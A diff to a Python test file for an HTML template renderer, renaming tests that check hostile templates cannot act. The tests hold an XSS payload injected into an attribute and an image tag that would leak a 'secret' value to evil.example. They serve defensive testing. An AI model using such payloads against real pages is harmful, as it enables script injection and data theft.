@@ -1,6 +1,4 @@
-"""Templates and inputs are untrusted: nothing of theirs runs, and nothing of theirs leaves its part
-of the page.
-"""
+"""Templates and inputs are untrusted: their scripts don't run, and they stay in their part."""
 
 import re
 
@@ -20,7 +18,7 @@ ACTIVE = (
 )  # fmt: skip
 
 
-def test_nothing_of_a_template_can_act():
+def test_a_template_has_no_active_content():
     html = render(HOSTILE, {}).html
     assert not [word for word in ACTIVE if word in html]
 
@@ -39,7 +37,7 @@ def test_a_templates_style_stays_in_its_part():
     )
 
 
-def test_a_style_that_closes_too_much_ends_nothing():
+def test_a_style_with_too_many_closing_braces_stays_in_its_part():
     html = render(
         "<style>p{color:red} } b{color:red} @media print { i { color: red }</style>", {}
     ).html
@@ -53,14 +51,14 @@ def test_a_style_that_closes_too_much_ends_nothing():
     assert html.count("</") == 2 and "<script" not in html
 
 
-def test_a_script_in_data_is_text():
+def test_a_script_in_data_is_shown_as_text():
     html = render(
         "<p title='{{ task.input.a }}'>{{ task.input.a }}</p>", {"a": "'><script>alert(1)</script>"}
     ).html
     assert "<script" not in html and "&lt;script&gt;" in html
 
 
-def test_pages_forbid_scripts_but_their_own(anna, store):
+def test_pages_allow_only_their_own_scripts(anna, store):
     store.add(
         "1",
         '<img src="{{ task.input.a | grant_read_access }}"><input name="b">',
@@ -82,7 +80,7 @@ def test_pages_forbid_scripts_but_their_own(anna, store):
     )
 
 
-def test_other_hosts_pictures_are_not_loaded(anna, store):
+def test_pictures_of_other_hosts_are_not_loaded(anna, store):
     store.add(
         "1", '<img src="https://evil.example/?{{ task.input.a }}"><input name="b">', {"a": "secret"}
     )
@@ -90,11 +88,11 @@ def test_other_hosts_pictures_are_not_loaded(anna, store):
 
 
 def test_a_page_too_large_for_a_browser_is_refused():
-    with pytest.raises(TemplateError, match="characters of its task"):
+    with pytest.raises(TemplateError, match="characters from its task"):
         render("{{ task.input.a }}", {"a": "x" * 5_000_000})
 
 
-def test_five_megabytes_of_input_are_no_matter_where_little_of_it_is_shown():
+def test_five_megabytes_of_input_are_fine_if_little_of_it_is_shown():
     assert "yes" in render("{{ task.input.b }}", {"a": "x" * 5_000_000, "b": "yes"}).html
 
 
